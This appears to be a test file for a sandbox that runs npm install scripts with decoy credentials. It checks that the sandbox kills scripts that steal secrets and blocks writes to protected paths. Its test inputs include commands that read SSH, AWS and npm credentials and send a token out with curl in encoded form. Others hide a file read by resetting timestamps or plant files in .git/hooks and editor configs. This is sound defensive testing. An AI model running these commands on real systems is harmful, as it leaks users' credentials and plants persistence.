import { existsSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import * as tar from 'tar';
import { afterEach, describe, expect, it } from 'vitest';
import { type Box, openBox } from './box.js';

let box: Box;
afterEach(() => box.close());

const kinds = () => box.events.map((event) => `${event.class} ${event.action}`);
const STEAL_AND_ASK = 'cat ~/.ssh/id_ed25519 > /dev/null; getent hosts collect.example; sleep 10; echo survived';

describe('violations', () => {
  it('ends a script that reads a decoy and then asks for the network', async () => {
    box = await openBox();
    const run = await box.run(STEAL_AND_ASK);
    expect(run.violation).toContain('~/.ssh/id_ed25519');
    expect(run.exitCode).toBeNull();
    expect(run.output).not.toContain('survived');
    expect(run.ms).toBeLessThan(5000);
    expect(kinds()).toEqual(expect.arrayContaining(['decoy reported', 'dns denied', 'decoy killed']));
  });

  it('lets a script go on where policy says to report only', async () => {
    box = await openBox({ consequences: { 'decoy-then-network': 'report' } });
    const run = await box.run(STEAL_AND_ASK.replace('sleep 10', 'true'));
    expect(run.violation).toBeUndefined();
    expect(run.output).toContain('survived');
    expect(kinds()).toContain('decoy reported');
  });

  it('leaves a script alone that reads a decoy and asks for nothing, and one that asks and reads nothing', async () => {
    box = await openBox();
    expect((await box.run('cat ~/.aws/credentials >/dev/null; echo done')).output).toContain('done');
    expect((await box.run('getent hosts a.example; echo done')).output).toContain('done');
    expect(kinds()).not.toContain('decoy killed');
  });

  it.each([
    ['plain', '$T'],
    ['base64', '$(printf %s $T | base64 -w0 | tr -d =)'],
    ['hex', '$(printf %s $T | od -An -tx1 | tr -d " \\n")'],
  ])('ends a script that sends a planted token to the registry, %s', async (_, written) => {
    box = await openBox({ consequences: { 'decoy-then-network': 'report' } });
    const send = `T=$(sed 's/.*=//' ~/.npmrc); curl -s "$npm_config_registry"x-${written}; sleep 10; echo survived`;
    const run = await box.run(send);
    expect(run.violation).toContain('planted credential');
    expect(run.output).not.toContain('survived');
    expect(box.requests).toEqual([]);
    expect(kinds()).toContain('canary killed');
  });

  it("plants other credentials in every install, and never the user's", async () => {
    box = await openBox();
    const first = (await box.run('cat ~/.npmrc')).output;
    await box.close();
    box = await openBox();
    const second = (await box.run('cat ~/.npmrc')).output;
    expect(first).toMatch(/_authToken=npm_\w{36}/);
    expect(second).not.toBe(first);
  });

  it('sees a decoy that was read and made to look unread', async () => {
    box = await openBox();
    await box.run('touch -r ~/.npmrc /tmp/t; cat ~/.npmrc >/dev/null; touch -a -r /tmp/t ~/.npmrc');
    expect(kinds()).toContain('decoy reported');
  });

  it('keeps what was caught, for the user alone', async () => {
    box = await openBox();
    const run = await box.run(
      `echo loot > loot.txt; ${STEAL_AND_ASK}`,
      {},
      { env: { PATH: '/usr/bin:/bin', npm_config_x: 'private-value' } },
    );
    expect(run.quarantine).toBeDefined();
    const kept = run.quarantine!;
    expect(kept.startsWith(join(box.stateDir, 'quarantine'))).toBe(true);
    expect(statSync(kept).mode & 0o077).toBe(0);
    for (const name of readdirSync(kept)) expect(statSync(join(kept, name)).mode & 0o777).toBe(0o600);
    const text = readFileSync(join(kept, 'context.json'), 'utf8');
    const context = JSON.parse(text) as {
      violation: string;
      environment: string[];
      processes: string[];
      events: unknown[];
    };
    expect(context.violation).toBe(run.violation);
    expect(context.environment).toContain('npm_config_x');
    expect(text).not.toContain('private-value');
    expect(context.processes.join('\n')).toContain('sleep 10');
    expect(context.events.length).toBeGreaterThan(1);
    const names: string[] = [];
    await tar.list({ file: join(kept, 'package.tgz'), onReadEntry: (entry) => names.push(entry.path) });
    expect(names).toContain('package/loot.txt');
  });

  it('counts what policy ignores, and says how much', async () => {
    box = await openBox();
    const run = await box.run(STEAL_AND_ASK.replace('sleep 10', 'true'), { ignoreViolations: ['collect.example'] });
    expect(box.events.some((event) => event.class === 'dns')).toBe(false);
    expect(box.events.some((event) => event.evidence.includes('ignored by ignoreViolations'))).toBe(true);
    expect(run.output).not.toContain('survived');
  });

  it('warns when a package tries more than ever before', async () => {
    box = await openBox();
    await box.run('getent hosts a.example');
    await box.run('getent hosts a.example');
    expect(box.events.some((event) => event.evidence.includes('never more than'))).toBe(false);
    await box.run('for i in 1 2 3 4; do getent hosts $i.example; done');
    expect(box.events.some((event) => event.evidence.includes('never more than'))).toBe(true);
    expect(readFileSync(join(box.stateDir, 'audit/scripts.jsonl'), 'utf8').trim().split('\n')).toHaveLength(3);
  });
});

describe('protected names in a granted folder', () => {
  it('cannot be changed where they exist', async () => {
    box = await openBox();
    const config = box.put('.git/config', 'original\n');
    box.put('sub/.vscode/tasks.json', '{}');
    const run = await box.run(
      `cd ${box.project}; echo x >> .git/config; rm -rf .git/config; mv .git .git2; echo x > sub/.vscode/tasks.json; mv sub sub2; echo fine > allowed.txt`,
      { writable: [box.project] },
    );
    expect(run.violation).toBeUndefined();
    expect(readFileSync(config, 'utf8')).toBe('original\n');
    expect(readFileSync(join(box.project, 'sub/.vscode/tasks.json'), 'utf8')).toBe('{}');
    expect(readFileSync(join(box.project, 'allowed.txt'), 'utf8')).toBe('fine\n');
  });

  it.each(['.bashrc', '.gitmodules', '.git/hooks/post-merge', '.mcp.json', 'a/b/.claude/settings.json', 'a/.cursor/x'])(
    'are taken back where they are new: %s',
    async (path) => {
      box = await openBox();
      const run = await box.run(
        `cd ${box.project}; mkdir -p $(dirname ${path}); echo x > ${path}; sleep 5; echo survived`,
        {
          writable: [box.project],
        },
      );
      expect(run.violation).toContain('protected path');
      expect(run.output).not.toContain('survived');
      expect(existsSync(join(box.project, path))).toBe(false);
      expect(kinds()).toEqual(expect.arrayContaining(['file undone', 'file killed']));
    },
  );

  it('are removed at once where a command works on the folder itself', async () => {
    box = await openBox();
    const path = join(box.project, 'made/just/now/.vscode/tasks.json');
    const run = await box.run(
      `cd ${box.project}; mkdir -p made/just/now/.vscode; echo {} > ${path}; sleep 5; echo survived`,
      { writable: [box.project] },
      { cwd: box.project, cwdWritable: false },
    );
    expect(run.violation).toContain('protected path');
    expect(run.output).not.toContain('survived');
    expect(readdirSync(join(box.project, 'made/just/now'))).toEqual([]);
  });

  it('are searched as deep as the grant says', async () => {
    box = await openBox();
    const deep = 'a/b/c/d/e/.vscode';
    const write = `mkdir -p ${box.project}/${deep}; echo done`;
    expect((await box.run(write, { writable: [box.project], protectedDepth: 2 })).violation).toBeUndefined();
    expect(existsSync(join(box.project, deep))).toBe(true);
    expect((await box.run(write, { writable: [box.project], protectedDepth: 10 })).violation).toBeUndefined();
    mkdirSync(join(box.project, 'x'));
    const other = write.replace(deep, 'x/b/c/d/e/.vscode');
    expect((await box.run(other, { writable: [box.project], protectedDepth: 10 })).violation).toContain(
      'protected path',
    );
    expect(readdirSync(join(box.project, 'x'))).toEqual([]);
  });
});
